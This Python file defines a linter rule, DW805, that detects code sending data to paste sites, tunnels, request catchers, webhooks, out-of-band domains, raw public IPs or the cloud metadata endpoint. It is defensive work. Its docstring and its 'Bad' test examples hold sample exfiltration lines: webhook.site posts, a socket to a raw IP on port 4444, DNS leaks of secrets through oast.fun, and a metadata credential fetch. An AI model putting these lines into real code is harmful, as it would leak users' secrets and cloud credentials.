"""exfiltration-endpoint: network calls to hosts that collect data for someone else.

**What it finds.** DW805: an HTTP, socket, SMTP, FTP or websocket call whose URL or host is
written in the code (a literal, an f-string or `+` with a literal host, `.format` / `%` on a
literal, or a name assigned one of those in the same scope or the module) and names:

- a raw public IP address (loopback, private, link-local, documentation and multicast ranges,
  `0.0.0.0` and the well-known public DNS resolvers excepted); the cloud metadata endpoint
  (`169.254.169.254`, `fd00:ec2::254`, `metadata.google.internal`) is flagged as a theft of the
  instance's credentials;
- a paste or file-drop site (pastebin.com, paste.ee, hastebin, ghostbin, bpaste, dpaste, ix.io,
  sprunge.us, termbin.com, paste.rs, rentry.co, controlc.com, transfer.sh, file.io, 0x0.st,
  temp.sh, anonfiles, gofile.io);
- a tunnel (ngrok, trycloudflare.com, serveo.net, localhost.run);
- a request catcher (webhook.site, requestbin, requestcatcher, pipedream, beeceptor);
- a chat webhook or bot API (Discord and Slack webhooks, the Telegram bot API);
- an out-of-band testing domain (interactsh's oast.* and interact.sh, Burp Collaborator,
  dnslog.cn, ceye.io);
- a URL shortener (bit.ly, tinyurl.com, is.gd, t.co, goo.gl, cutt.ly), which hides the real
  destination.

It also finds DNS lookups (`socket.gethostbyname`, `gethostbyname_ex`, `getaddrinfo`,
`dns.resolver.resolve` / `query`) of a name built from data: an f-string, `+`, `%` or
`.format` whose computed part comes before a literal domain (`f"{chunk}.x.example.net"`), the
classic way to leak data through DNS, which firewalls rarely block.

The calls are `requests` and `httpx` (functions, `Client(base_url=...)`), `urllib.request`,
`urllib3`, `aiohttp.request`, `http.client.HTTP(S)Connection`, `smtplib`, `ftplib`, `imaplib`,
`poplib`, `telnetlib`, `socket.create_connection`, `websockets.connect` /
`websocket.create_connection`, and, on objects we cannot resolve (sessions, clients, sockets),
the methods `.get/.post/.put/.patch/.delete/.head/.options/.request/.ws_connect` with a literal
URL and `.connect/.connect_ex/.sendto` with a literal address.

**Options.** `extra-hosts`: host suffixes to flag as well (your organisation's known-bad list).
`allow-hosts`: host suffixes that are the project's own endpoints and are never flagged (a team
that really posts to its own Slack webhook, calls a fixed partner IP, or looks up per-tenant
names under its own domain).

**Why it matters in assistant-written code.** A coding agent that a poisoned issue, README or
dependency has taken over needs somewhere to send what it finds. The free, anonymous,
no-sign-up services are the ones attackers use: a paste site, a request catcher, a Discord
webhook, a tunnel, a bare IP. Honest project code talks to the project's own configured hosts.

**Severity.** High; confidence high for the named services and the metadata endpoint, medium
for raw IPs, URL shorteners and DNS lookups.

**Bad**

```python
requests.post("https://webhook.site/4f1c2d", json=payload, timeout=5)
sock = socket.create_connection(("45.61.137.20", 4444))
socket.gethostbyname(f"{secret.hex()}.x.oast.fun")
```

**Good**

```python
requests.post(settings.WEBHOOK_URL, json=payload, timeout=5)  # the project's configuration
```

**Not flagged.** Well-known API hosts (`https://api.github.com/...`); URLs from configuration
or parameters (`requests.post(settings.WEBHOOK_URL)`: computed, this rule cannot know them);
`http://127.0.0.1:8000`, `http://10.0.0.5/health`, `http://[::1]/`; IPv6 network prefixes
(`[2001:102a::]`, whose last 64 bits are zero: parsing tests use them, hosts do not);
documentation and comments that mention a paste site without calling it;
`socket.gethostbyname("example.com")` (constant) and `socket.gethostbyname(host)` for a plain
parameter; lookups under `.local`, `.internal`, `.arpa`, `.consul` and `cluster.local`
(service discovery, reverse DNS); a UDP socket `connect(("8.8.8.8", 80))` used to learn the
local address (well-known resolvers are not collectors); `.get("http://1.2.3.4")` on a resolved
object that is not a network client.

**Fix.** None automatic. Remove the call; if the host is really the project's own, add it to
`allow-hosts` or suppress the finding with the reason.

**References.** CWE-200 (exposure of sensitive information to an unauthorized actor); no
bandit or ruff counterpart (bandit B310 audits `urlopen` schemes, a different question).
"""

from __future__ import annotations

import ipaddress
import re
from typing import Dict, Optional, Tuple

from hooks import _paths
from hooks.engine.bindings import Kind
from hooks.engine.lazy import cst
from hooks.engine.names import lookup
from hooks.engine.rule import Bad, Confidence, Ok, Rule, Severity
from hooks.engine.lazyre import lazy_re

PASTE = "a paste or file-drop site"
TUNNEL = "a tunnel to someone's machine"
CATCHER = "a request catcher"
CHAT = "a chat webhook or bot API"
OAST = "an out-of-band data collector"
SHORTENER = "a URL shortener that hides the real destination"
METADATA = "the cloud metadata endpoint, which hands out the instance's credentials"
EXTRA = "a host listed in extra-hosts"

# host suffix -> (path prefix the URL must start with, what it is, confidence)
ENDPOINTS: Dict[str, Tuple[str, str, Confidence]] = {
    **{
        host: ("", PASTE, Confidence.HIGH)
        for host in (
            "pastebin.com", "paste.ee", "hastebin.com", "ghostbin.com", "ghostbin.co",
            "transfer.sh", "file.io", "0x0.st", "temp.sh", "anonfiles.com", "gofile.io",
            "bpa.st", "bpaste.net", "dpaste.com", "dpaste.org", "ix.io", "sprunge.us",
            "termbin.com", "paste.rs", "rentry.co", "controlc.com",
        )
    },
    "toptal.com": ("/developers/hastebin", PASTE, Confidence.HIGH),
    **{
        host: ("", TUNNEL, Confidence.HIGH)
        for host in (
            "ngrok.io", "ngrok-free.app", "ngrok.app", "trycloudflare.com", "serveo.net",
            "localhost.run",
        )
    },
    **{
        host: ("", CATCHER, Confidence.HIGH)
        for host in (
            "webhook.site", "requestbin.com", "requestbin.net", "requestcatcher.com",
            "pipedream.net", "pipedream.com", "beeceptor.com",
        )
    },
    "discord.com": ("/api/webhooks", CHAT, Confidence.HIGH),
    "discordapp.com": ("/api/webhooks", CHAT, Confidence.HIGH),
    "hooks.slack.com": ("/services", CHAT, Confidence.HIGH),
    "api.telegram.org": ("/bot", CHAT, Confidence.HIGH),
    **{
        host: ("", OAST, Confidence.HIGH)
        for host in (
            "oast.pro", "oast.live", "oast.site", "oast.online", "oast.fun", "oast.me",
            "interact.sh", "burpcollaborator.net", "oastify.com", "dnslog.cn", "ceye.io",
        )
    },
    **{
        host: ("", SHORTENER, Confidence.MEDIUM)
        for host in ("bit.ly", "tinyurl.com", "is.gd", "t.co", "goo.gl", "cutt.ly")
    },
    "metadata.google.internal": ("", METADATA, Confidence.HIGH),
}  # fmt: skip
METADATA_ADDRESSES = frozenset({"169.254.169.254", "fd00:ec2::254"})
# public resolvers: `connect(("8.8.8.8", 80))` on a UDP socket finds the local address
RESOLVERS = frozenset(
    {"8.8.8.8", "8.8.4.4", "1.1.1.1", "1.0.0.1", "9.9.9.9", "208.67.222.222", "208.67.220.220"}
)

INTERFACE_BITS = (1 << 64) - 1  # the host part of an IPv6 address
URL, HOST, ADDRESS = "url", "host", "address"
HTTP_VERBS = ("get", "post", "put", "patch", "delete", "head", "options")
# qualified name -> (position, keyword, kind) of its destination
CALLS: Dict[str, Tuple[Optional[int], str, str]] = {
    **{f"{lib}.{verb}": (0, "url", URL) for lib in ("requests", "httpx") for verb in HTTP_VERBS},
    **{f"requests.api.{verb}": (0, "url", URL) for verb in HTTP_VERBS},
    "requests.request": (1, "url", URL),
    "requests.api.request": (1, "url", URL),
    "httpx.request": (1, "url", URL),
    "httpx.stream": (1, "url", URL),
    "httpx.Client": (None, "base_url", URL),
    "httpx.AsyncClient": (None, "base_url", URL),
    "aiohttp.request": (1, "url", URL),
    "urllib.request.urlopen": (0, "url", URL),
    "urllib.request.Request": (0, "url", URL),
    "urllib.request.urlretrieve": (0, "url", URL),
    "urllib3.request": (1, "url", URL),
    "urllib3.connection_from_url": (0, "url", URL),
    "websockets.connect": (0, "uri", URL),
    "websocket.create_connection": (0, "url", URL),
    **{
        name: (0, "host", HOST)
        for name in (
            "http.client.HTTPConnection", "http.client.HTTPSConnection", "smtplib.SMTP",
            "smtplib.SMTP_SSL", "ftplib.FTP", "ftplib.FTP_TLS", "imaplib.IMAP4",
            "imaplib.IMAP4_SSL", "poplib.POP3", "poplib.POP3_SSL", "telnetlib.Telnet",
            "urllib3.HTTPConnectionPool", "urllib3.HTTPSConnectionPool",
        )
    },
    "socket.create_connection": (0, "address", ADDRESS),
}  # fmt: skip
# methods of objects we cannot resolve (sessions, clients, sockets)
METHODS: Dict[str, Tuple[int, str, str]] = {
    **{verb: (0, "url", URL) for verb in HTTP_VERBS},
    "request": (1, "url", URL),
    "ws_connect": (0, "url", URL),
    "connect": (0, "address", ADDRESS),
    "connect_ex": (0, "address", ADDRESS),
    "sendto": (1, "address", ADDRESS),
}
DNS_LOOKUPS: Dict[str, Tuple[int, str]] = {
    "socket.gethostbyname": (0, "hostname"),
    "socket.gethostbyname_ex": (0, "hostname"),
    "socket.getaddrinfo": (0, "host"),
    "dns.resolver.resolve": (0, "qname"),
    "dns.resolver.query": (0, "qname"),
}
# lookups under these are service discovery or reverse DNS, not a collector's domain
CALL_NAMES = _paths.last_names([*CALLS, *METHODS, *DNS_LOOKUPS])
LOCAL_SUFFIXES = (".local", ".internal", ".localhost", ".arpa", ".lan", ".consul", ".test")
URL_SHAPE = lazy_re(r"^(?:[A-Za-z][A-Za-z0-9+.-]*|\x00)://([^/?#]*)(.*)$", re.DOTALL)
DOMAIN = lazy_re(r"^[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+\.?$")


def _host_and_path(text: str, kind: str) -> Optional[Tuple[str, str]]:
    """The host (lower case, no user or port) and the path of a rendered destination."""
    if kind == URL:
        shape = URL_SHAPE.match(text)
        if shape is None:
            return None
        authority, path = shape.group(1), shape.group(2)
    else:
        authority, path = text, ""
    host = authority.rsplit("@", 1)[-1]
    if host.startswith("["):  # [2001:db8::1]:8080
        host = host[1:].split("]", 1)[0]
    elif host.count(":") == 1:
        host = host.split(":", 1)[0]
    return host.lower().rstrip("."), path


def _matches(host: str, suffixes: Tuple[str, ...]) -> Optional[str]:
    """The suffix `host` ends with at a label boundary; a computed host counts from its
    literal end (`{sub}.ngrok.io`)."""
    if _paths.HOLE in host:
        rest = host.rsplit(_paths.HOLE, 1)[1]
        if not rest.startswith("."):
            return None
        host = rest[1:]
    for suffix in suffixes:
        suffix = suffix.lower().strip(".")
        if suffix and (host == suffix or host.endswith("." + suffix)):
            return suffix
    return None


def _ip_finding(host: str) -> Optional[Tuple[str, Confidence]]:
    try:
        address = ipaddress.ip_address(host)
    except ValueError:
        return None
    if host in METADATA_ADDRESSES or str(address) in METADATA_ADDRESSES:
        return METADATA, Confidence.HIGH
    if not address.is_global or address.is_multicast or host in RESOLVERS:
        return None
    if address.version == 6 and int(address) & INTERFACE_BITS == 0:
        return None  # `2001:db8:1::`: a network prefix (as in parsing tests), not a host
    return "a raw public IP address", Confidence.MEDIUM


class ExfiltrationEndpoint(Rule):
    code = "DW805"
    name = "exfiltration-endpoint"
    summary = "A network call goes to a paste site, tunnel, webhook catcher, raw IP or the like."
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    cwe = (200,)
    message = "`{func}` {finding}"
    hint = "remove it; if the host is the project's own, list it in allow-hosts"
    triggers = (
        "requests", "httpx", "aiohttp", "urllib", "urllib3", "urlopen", "socket", "smtplib",
        "ftplib", "imaplib", "poplib", "telnetlib", "websocket", "websockets",
        "gethostbyname", "gethostbyname_ex", "getaddrinfo", "resolver",
    )  # fmt: skip
    # not `http` / `https`, in every docstring's links: a destination this rule flags names a
    # host of the table or a raw address, and the line that calls it is kept for holding it
    # (or a name bound on a line that does)
    # each starts with a literal, which the regex engine finds at C speed (see fast_start); a
    # line with an address holds a match, if not only such lines
    trigger_patterns = (
        *(r"\b" + re.escape(host) + r"\b" for host in ENDPOINTS),  # one each: its own needle
        r"\.\d{1,3}\.\d{1,3}\.\d",  # IPv4: `.b.c.d` of a.b.c.d
        # IPv6: `h::`, or three groups (`:h:h:` of four and more; not a time of day, 14:30:59)
        r":(?::(?<=[0-9A-Fa-f]::)|[0-9A-Fa-f]{1,4}:[0-9A-Fa-f]{1,4}:)",
    )
    options = {"extra-hosts": (), "allow-hosts": ()}
    examples = (
        Bad(
            "import requests\n\ndef share(report):\n"
            "    requests.post('https://webhook.site/4f1c2d9e', json=report, timeout=5)\n",
            ((4, 5),),
        ),
        Bad(
            "import socket\n\nsock = socket.create_connection(('45.61.137.20', 4444))\n",
            ((3, 8),),
            why="a raw public IP",
        ),
        Bad(
            "import requests\n\nPASTE_API = 'https://pastebin.com/api/api_post.php'\n\n"
            "def upload(text):\n"
            "    return requests.post(PASTE_API, data={'api_paste_code': text}, timeout=5)\n",
            ((6, 12),),
            why="a module constant",
        ),
        Bad(
            "import httpx\n\nasync def notify(client, msg):\n"
            "    await client.post(f'https://discord.com/api/webhooks/{HOOK_ID}/{TOKEN}',\n"
            "                      json={'content': msg})\n",
            ((4, 11),),
            why="a method of a client we cannot resolve, and an f-string with a literal host",
        ),
        Bad(
            "import urllib.request\n\n"
            "creds = urllib.request.urlopen('http://169.254.169.254/latest/meta-data/"
            "iam/security-credentials/', timeout=2).read()\n",
            ((3, 9),),
            why="the cloud metadata endpoint",
        ),
        Bad(
            "import socket\n\ndef leak(secret):\n"
            "    socket.gethostbyname(f'{secret.hex()}.x.oast.fun')\n",
            ((4, 5),),
            severity=Severity.HIGH,
            why="DNS exfiltration through a computed name",
        ),
        Bad(
            "import socket\n\ndef leak(chunk):\n    name = chunk + '.exfil.example.net'\n"
            "    socket.getaddrinfo(name, 53)\n",
            ((5, 5),),
            why="a computed name through a local variable",
        ),
        Bad(
            "import requests as r\n\nsub = get_id()\n"
            "r.get(f'https://{sub}.ngrok-free.app/cmd', timeout=5)\n",
            ((4, 1),),
            why="a computed sub-domain of a tunnel",
        ),
        Bad(
            "import smtplib\n\nserver = smtplib.SMTP('203.0.114.7', 25)\n",
            ((3, 10),),
            why="a raw IP as a host",
        ),
        Bad(
            "import requests\n\nrequests.get('http://[2a05:d018:7f1::2c]:8443/in', timeout=5)\n",
            ((3, 1),),
            why="a raw public IPv6 address",
        ),
        Bad(
            "def beacon(client, sock):\n    client.post('http://45.61.137.20/in', data=b'x')\n"
            "    sock.connect(('2a05:d018:7f1::2c', 4444))\n",
            ((2, 5), (3, 5)),
            why="methods of objects we cannot resolve, in a file whose only trigger is the address",
        ),
        Bad(
            "import requests\n\nrequests.get('https://bit.ly/3xYz', timeout=5)\n",
            ((3, 1),),
        ),
        Ok(
            "import requests\n\ndef repos(user):\n"
            "    return requests.get(f'https://api.github.com/users/{user}/repos', timeout=10)\n"
        ),
        Ok(
            "import requests\nfrom django.conf import settings\n\ndef notify(payload):\n"
            "    requests.post(settings.WEBHOOK_URL, json=payload, timeout=5)\n",
            why="a URL from configuration",
        ),
        Ok(
            "import requests\n\nrequests.get('http://127.0.0.1:8000/health', timeout=2)\n"
            "requests.get('http://10.0.0.5/health', timeout=2)\n"
            "requests.get('http://[::1]:8080/', timeout=2)\n",
        ),
        Ok(
            "import requests\n\nHELP = 'paste the log to https://pastebin.com and send the link'\n"
            "requests.get(DOCS_URL, timeout=5)\n",
            why="a string that is never requested",
        ),
        Ok(
            "import socket\n\nsocket.gethostbyname('example.com')\n\ndef resolve(host):\n"
            "    return socket.gethostbyname(host)\n",
            why="a constant name, and a plain parameter",
        ),
        Ok(
            "import socket\n\ndef service(name, namespace):\n"
            "    return socket.gethostbyname(f'{name}.{namespace}.svc.cluster.local')\n",
            why="Kubernetes service discovery",
        ),
        Ok(
            "import socket\n\ndef local_ip():\n"
            "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "    s.connect(('8.8.8.8', 80))\n    return s.getsockname()[0]\n",
            why="a UDP connect to a public resolver to learn the local address",
        ),
        Ok(
            "import httpx\n\nclass ApiClient:\n    def __init__(self, base_url, token):\n"
            "        self.http = httpx.Client(base_url=base_url, timeout=10)\n\n"
            "    def items(self):\n        return self.http.get('/items').json()\n",
            why="an HTTP client library calling its configured host",
        ),
        Ok(
            "CACHE = {}\n\ndef cached(url):\n    return CACHE.get(url)\n",
            why="a dict's get",
        ),
        Ok(
            "import requests\n\nrequests.get('https://not-pastebin.com/x', timeout=5)\n"
            "requests.get('https://discord.com/channels/1/2', timeout=5)\n",
            why="a different host, and a Discord page that is not a webhook",
        ),
        Ok(
            "from http import client\n\ndef test_ipv6_host_header(self):\n"
            "    conn = client.HTTPConnection('[2001:102A::]')\n    conn.sock = FakeSocket('')\n"
            "    conn.request('GET', '/foo')\n",
            why="an IPv6 network prefix in a parsing test (CPython's test_httplib)",
        ),
        Ok(
            "import http.client\n\nconn = http.client.HTTPSConnection('pypi.org', timeout=10)\n"
            "conn.request('GET', '/simple/')\n",
        ),
    )

    def visit_Call(self, node: cst.Call) -> None:
        if not _paths.worth_resolving(node, CALL_NAMES):
            return
        func = self.ctx.resolve(node.func)
        if func in DNS_LOOKUPS:
            self._dns(node, func)
            return
        if func is not None:
            destination = CALLS.get(func)
            shown = func
        elif isinstance(node.func, cst.Attribute):
            destination = METHODS.get(node.func.attr.value)
            shown = f".{node.func.attr.value}"
        else:
            return
        if destination is None:
            return
        position, keyword, kind = destination
        arg = self.ctx.argument(node, position, keyword)
        if arg is None:
            return
        value = arg.value
        if kind == ADDRESS:
            if not isinstance(value, cst.Tuple) or not value.elements:
                return
            value, kind = value.elements[0].value, HOST
        self._check(node, shown, _paths.render(self.ctx, value), kind)

    def _check(self, node: cst.Call, func: str, text: str, kind: str) -> None:
        parsed = _host_and_path(text, kind)
        if parsed is None:
            return
        host, path = parsed
        if not host or _matches(host, self._hosts("allow-hosts")):
            return
        found = self._classify(host, path)
        if found is None:
            return
        what, confidence = found
        verb = "talks to" if what == METADATA else "sends to"
        shown = host.replace(_paths.HOLE, "{...}")
        self.report(node, confidence=confidence, func=func, finding=f"{verb} {what} (`{shown}`)")

    def _classify(self, host: str, path: str) -> Optional[Tuple[str, Confidence]]:
        if _paths.HOLE not in host:
            found = _ip_finding(host)
            if found is not None:
                return found
        suffix = _matches(host, tuple(ENDPOINTS))
        if suffix is not None:
            prefix, what, confidence = ENDPOINTS[suffix]
            if path.lower().startswith(prefix):
                return what, confidence
        return (EXTRA, Confidence.HIGH) if _matches(host, self._hosts("extra-hosts")) else None

    def _hosts(self, option: str) -> Tuple[str, ...]:
        value = self.opts[option]
        return value if isinstance(value, tuple) else ()

    def _dns(self, node: cst.Call, func: str) -> None:
        position, keyword = DNS_LOOKUPS[func]
        arg = self.ctx.argument(node, position, keyword)
        if arg is None or self.ctx.is_constant(arg.value):
            return
        if not _built(arg.value) and not _built(self._assigned(arg.value)):
            return
        text = _paths.render(self.ctx, arg.value)
        if _paths.HOLE not in text:
            return
        suffix = text.rsplit(_paths.HOLE, 1)[1].lstrip(".")
        if not DOMAIN.match(suffix) or suffix.lower().rstrip(".").endswith(LOCAL_SUFFIXES):
            return
        if _matches(suffix.lower().rstrip("."), self._hosts("allow-hosts")):
            return
        self.report(
            node,
            confidence=Confidence.MEDIUM,
            func=func,
            finding=f"looks up a name built from data under `{suffix}`: "
            "the data reaches that domain's name server (DNS exfiltration)",
        )

    def _assigned(self, node: cst.BaseExpression) -> Optional[cst.BaseExpression]:
        """The value of a name assigned once in its scope (or the module's)."""
        if not isinstance(node, cst.Name):
            return None
        bindings, _ = lookup(node.value, self.ctx.scopes)
        if not bindings or len(bindings) != 1 or bindings[0].kind is not Kind.ASSIGN:
            return None
        return bindings[0].value


def _built(node: Optional[cst.BaseExpression]) -> bool:
    """Built by formatting: an f-string, `+`, `%` or `.format(...)`."""
    if isinstance(node, (cst.FormattedString, cst.ConcatenatedString)):
        return True
    if isinstance(node, cst.BinaryOperation):
        return isinstance(node.operator, (cst.Add, cst.Modulo))
    return (
        isinstance(node, cst.Call)
        and isinstance(node.func, cst.Attribute)
        and node.func.attr.value == "format"
    )
